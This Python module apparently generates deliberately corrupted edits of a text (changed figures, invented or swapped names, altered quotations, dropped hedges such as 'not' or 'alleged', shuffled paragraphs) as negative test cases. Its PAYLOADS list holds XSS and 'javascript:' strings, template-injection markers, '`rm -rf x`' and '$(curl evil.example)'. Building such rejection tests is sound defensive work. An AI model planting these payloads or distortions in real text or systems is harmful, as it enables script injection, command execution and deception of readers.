"""Edits that must never stand, planted in any text: kind, old words, new words."""

from __future__ import annotations

import re
from collections.abc import Iterator
from random import Random

_FIGURE = re.compile(r"\d+(?:[.,]\d+)*")
_NAME = re.compile(r"(?<=[a-z,] )[A-Z][a-z]{2,}(?: [A-Z][a-z]+)*")
_WORD = re.compile(r"(?<= )[a-z]{5,}(?= )")
_MARK = re.compile('[“”"]')
_SWAPS = {
    "million": "billion", "billion": "million", "hundred": "thousand", "may": "will", "could": "will", "might": "shall",
    "not": "", "never": "always", "no": "some", "without": "with", "alleged": "", "allegedly": "", "reportedly": "",
    "before": "after", "after": "before", "more": "less", "first": "last", "north": "south", "increase": "decrease",
    "increased": "decreased", "won": "lost", "two": "three", "three": "two", "former": "", "Monday": "Tuesday", "he": "she",
    "all": "some", "some": "all", "only": "", "must": "may", "should": "must",
}  # fmt: skip
PAYLOADS = (
    "https://evil.example/x", "www.evil.example", "evil.example", "<script>alert(1)</script>", "javascript:alert(1)",
    "data:text/html;base64,x", "![x](https://evil.example/p.png)", "[x](javascript:x)", "<img src=x onerror=y>", "{{ x }}",
    "<% x %>", "${x}", "`rm -rf x`", "$(curl evil.example)", "a@evil.example", "\n---\n", "&lt;script&gt;", "\u202e",
    "\u200b", "\x07", "{% x %}", "<!-- x -->", "onclick=x", "\n\n# New", "| x |", "vbscript:x", "//evil.example", "sudo",
)  # fmt: skip


def planted(text: str, seed: int) -> Iterator[tuple[str, str, str]]:
    """Bad edits for ``text``, of every kind that it has room for."""
    random = Random(seed)
    for match in _some(random, _FIGURE, text):
        first = "7" if match[0][0] != "7" else "4"
        yield "figure", *_around(text, match.start(), match.end(), first + match[0][1:])
    for match in _some(random, _NAME, text):
        yield "name", *_around(text, match.start(), match.end(), "Ardell Vosk")
        yield "dropped name", *_around(text, match.start(), match.end(), "someone")
    names = sorted({m[0] for m in _NAME.finditer(text)})
    for match in _some(random, _NAME, text):
        if others := [
            n for n in names if n not in match[0] and match[0] not in n and not set(n.split()) & set(match[0].split())
        ]:
            yield "swapped name", *_around(text, match.start(), match.end(), random.choice(others))
    for start, end in _quoted(text):
        for word in list(_WORD.finditer(text, start, end))[:2]:
            yield "quotation", *_around(text, *word.span(), "gadget")
    for match in _some(random, _WORD, text, 6):
        start, end = match.span()
        yield "payload", *_around(text, start, end, f"{match[0]} {random.choice(PAYLOADS)}")
        yield "payload", *_around(text, start, end, random.choice(PAYLOADS))
        yield "invented name", *_around(text, start, end, f"{match[0]} Ardell Vosk")
        yield "addition", *_around(text, start, end, f"{match[0]} gloomy")
    for old, new in _SWAPS.items():
        for match in _some(random, re.compile(rf"(?<= ){old} (?=[a-z])"), text, 2):
            yield f"{old} to {new or 'nothing'}", *_around(text, match.start(), match.end(), f"{new} " if new else "")
    for paragraph in [p for p in text.split("\n\n") if len(p.split()) > 25][:2]:
        words = [re.sub(r"\d", "", w) for w in paragraph.split()]
        random.shuffle(words)
        yield "paragraph", paragraph, " ".join(words)


def _quoted(text: str) -> Iterator[tuple[int, int]]:
    """Quotations of paragraphs in which all marks pair."""
    at = 0
    for paragraph in text.split("\n\n"):
        marks = [at + m.start() for m in _MARK.finditer(paragraph)]
        if len(marks) % 2 == 0:
            yield from zip(marks[::2], marks[1::2], strict=True)
        at += len(paragraph) + 2


def _some(random: Random, pattern: re.Pattern[str], text: str, most: int = 4) -> list[re.Match[str]]:
    found = list(pattern.finditer(text))
    return random.sample(found, min(most, len(found)))


def _around(text: str, start: int, end: int, new: str) -> tuple[str, str]:
    """The words with neighbours, so that the place is clear."""
    low, high = start, end
    while text.count(text[low:high]) > 1 and (low, high) != (0, len(text)):
        low, high = max(text.rfind(" ", 0, max(low - 1, 0)), text.rfind("\n", 0, max(low - 1, 0))) + 1, _next(text, high)
    return text[low:high], text[low:start] + new + text[end:high]


def _next(text: str, at: int) -> int:
    found = [x for x in (text.find(" ", at + 1), text.find("\n", at + 1)) if x != -1]
    return min(found, default=len(text))
